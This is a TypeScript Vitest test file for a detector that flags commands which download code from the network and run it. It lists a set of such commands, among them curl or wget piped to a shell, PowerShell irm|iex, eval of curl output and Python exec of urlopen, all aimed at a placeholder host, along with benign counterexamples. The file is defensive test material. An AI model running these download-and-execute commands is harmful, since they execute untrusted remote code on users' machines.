import { expect, test } from 'vitest';
import { downloadsAndRuns } from './download-and-run.ts';

test.each([
  'curl -fsSL https://x.example/i | sh',
  'wget -qO- https://x.example | sudo -E bash',
  'curl -s https://x.example/i | /bin/bash',
  'curl https://x.example/a | tee a | python3 -',
  'curl "https://x.example/?a=1&b=2" | A=b sh -s',
  'irm https://x.example/x.ps1 | iex',
  'iex (irm https://x.example/x.ps1)',
  'curl -s https://x.example/i.sh -o /tmp/i && sh /tmp/i',
  'wget -O "/tmp/i" https://x.example/i; sudo bash -x "/tmp/i"',
  'curl -sSo i.sh https://x.example && chmod +x i.sh && ./i.sh',
  'curl https://x.example > run && ./run',
  'curl -o /tmp/i https://x.example\nsh /tmp/i',
  'bash <(curl -s https://x.example/x)',
  'eval "$(curl -s https://x.example)"',
  'python -c "import urllib.request as u;exec(u.urlopen(a).read())"',
])('%j downloads and runs', (lines) => expect(downloadsAndRuns(lines)).toBe(true));

test.each([
  'curl -s https://x.example/a.json | jq .',
  'curl -s https://x.example | grep node',
  'curl -o data.json https://x.example && python3 load.py data.json',
  'curl -o a.tgz https://x.example && tar xf a.tgz',
  'curl https://x.example && echo a | sh',
  '| curl | bash |',
  'use curl or wget, then run bash scripts',
])('%j does not', (lines) => expect(downloadsAndRuns(lines)).toBe(false));
